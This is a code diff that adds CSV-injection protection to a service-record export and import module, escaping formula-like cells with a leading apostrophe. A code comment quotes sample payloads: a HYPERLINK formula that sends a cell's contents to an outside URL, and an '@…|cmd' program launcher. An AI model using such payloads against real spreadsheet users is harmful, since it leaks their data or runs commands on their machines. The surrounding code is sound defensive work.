@@ -118,6 +118,30 @@ _COLUMN_OF = {
 }
 
 
+# A spreadsheet reads a cell starting with one of these as a formula and runs it when the export is opened: a
+# publisher's name `=HYPERLINK("https://…/?"&A2, "Urgent help")` would send a neighbouring cell away, `@…|cmd` start
+# a program (OWASP "CSV injection"). A leading apostrophe tells every spreadsheet "this is text", and is not shown.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
+
+
+def _read_as_formula(cell: str) -> bool:
+    """Whether a spreadsheet would run this cell, or it is such a cell already written as text (`'=…`: kept apart
+    so that a text that really starts with an apostrophe comes back as written). A number (-1.55) is no formula."""
+    rest = cell.lstrip("'")
+    return rest.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(rest)
+
+
+def as_text_cell(cell: str) -> str:
+    """A cell as `to_csv` writes it: one that a spreadsheet would run as a formula, made text."""
+    return "'" + cell if _read_as_formula(cell) else cell
+
+
+def from_text_cell(cell: str) -> str:
+    """A cell as `as_text_cell` wrote it (or a spreadsheet saved it), read back as the text it holds."""
+    return cell[1:] if cell.startswith("'") and _read_as_formula(cell[1:]) else cell
+
+
 def _split(cell: str) -> list[str]:
     return [part.strip() for part in cell.split(";") if part.strip()]
 
@@ -403,7 +427,7 @@ def parse_csv(text: str) -> list[Parsed]:
     for number, cells in enumerate(table[1:], start=2):
         if not any(cell.strip() for cell in cells):
             continue  # blank lines, including the trailing ones spreadsheets write
-        row = _Row(number, {column: cell.strip() for column, cell in zip(header, cells, strict=False)})
+        row = _Row(number, {column: from_text_cell(cell.strip()) for column, cell in zip(header, cells, strict=False)})
         if len(cells) > len(header):
             row.problems.append(
                 Problem(row.where, "", "", f"{len(cells)} cells but the header has {len(header)} columns")
@@ -541,5 +565,5 @@ def to_csv(records: Iterable[ServiceRecord]) -> str:
     writer = csv.DictWriter(out, fieldnames=COLUMNS, restval="", lineterminator="\r\n")
     writer.writeheader()
     for record in records:
-        writer.writerows(_rows(record))
+        writer.writerows({column: as_text_cell(cell) for column, cell in row.items()} for row in _rows(record))
     return out.getvalue()
